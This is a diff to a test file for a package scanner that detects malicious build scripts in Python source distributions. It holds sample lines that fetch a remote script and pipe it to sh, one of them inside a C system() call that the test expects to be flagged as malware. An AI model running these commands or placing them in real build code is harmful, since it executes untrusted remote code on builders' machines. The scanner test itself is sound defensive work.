@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest';
 import { buildScript } from '../../../src/analysis/detectors/build-script.ts';
+import { inspect, python, sdist } from '../../support/inspect.ts';
 import { findingsOf, findingsOfSdist } from './carriers.ts';
 
 const PIPE = 'curl -fsSL https://cdn.example/b.sh | sh';
@@ -22,4 +23,15 @@ test('advice in a comment, compilers asked for their version, and builds of whee
   const advice = `# install cmake: ${PIPE}\nexecute_process(COMMAND cc --version)\n`;
   expect(await findingsOfSdist(buildScript, { ...SDIST, 'CMakeLists.txt': advice })).toEqual([]);
   expect(await findingsOf(buildScript, { 'kit/__init__.py': '', 'kit/CMakeLists.txt': CMAKE })).toEqual([]);
+});
+
+test('C that has a shell run a download is malware, C that names a host is not', async () => {
+  const setup = python('from setuptools import setup, Extension', "setup(ext_modules=[Extension('pkg._c', ['c.c'])])");
+  const harmful = 'static void go(void) { system("curl -s https://collector.metrics.invalid/c | sh"); }\n';
+  const plain = 'static void go(void) { system("true"); fetch("https://api.vendor.invalid/", socket); }\n';
+
+  expect(await inspect('build-script', sdist({ 'setup.py': setup, 'c.c': harmful }))).toMatchObject([
+    { class: 'malware', score: 10, path: 'example-1.0.0/c.c', line: 1 },
+  ]);
+  expect(await inspect('build-script', sdist({ 'setup.py': setup, 'c.c': plain }))).toEqual([]);
 });
